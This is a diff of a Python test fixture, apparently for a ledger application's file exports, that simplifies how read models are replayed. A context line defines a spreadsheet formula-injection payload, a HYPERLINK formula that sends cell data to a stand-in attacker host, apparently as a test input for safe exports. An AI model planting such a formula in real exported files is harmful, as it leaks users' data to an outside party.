@@ -21,10 +21,8 @@ from application.store.database import DATABASE_URL_ENV
 from application.use_cases import UseCases
 from bench.history import Driver
 from interface.cli.main import main
-from projections.catalog import by_name
 from projections.export_files import OutputFolder, UnsafeOutput
-from projections.runner import open_view, replay
-from tests.projections.scenario import READ_MODELS
+from tests.projections.scenario import replay_what_exports_read
 
 START, END = "2026-03-01T00:00:00Z", "2026-04-01T00:00:00Z"  # the clock starts on 2026-03-10
 HYPERLINK = '=HYPERLINK("https://attacker.invalid/?"&A2,"Click")'
@@ -60,12 +58,7 @@ def hostile_books(
     store_use_cases.buys.commit("demo", buy.code)
     store_use_cases.settlement.report_sendout("demo", SendoutReport(buy.code, CALC, 1))
     drive.sell("demo", "alice", "0.001")
-    for spec in (READ_MODELS, by_name("Postings")):
-        view = open_view(fresh_database, spec)
-        try:
-            replay(store_ledger, spec, view)
-        finally:
-            view.datastore.close()
+    replay_what_exports_read(store_ledger, fresh_database)
     monkeypatch.setenv(DATABASE_URL_ENV, fresh_database)
     monkeypatch.setenv(VAR_ENV, str(tmp_path / "var"))
     return fresh_database
